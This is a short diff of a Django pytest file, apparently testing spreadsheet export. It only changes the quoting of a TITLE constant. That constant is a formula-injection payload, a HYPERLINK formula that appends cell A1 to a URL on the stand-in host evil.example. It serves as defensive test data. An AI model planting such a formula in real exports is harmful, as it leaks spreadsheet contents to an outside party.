@@ -16,7 +16,7 @@ from tests.factories import UserFactory
 
 pytestmark = pytest.mark.django_db
 
-TITLE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"
+TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 
 
 @pytest.mark.parametrize(
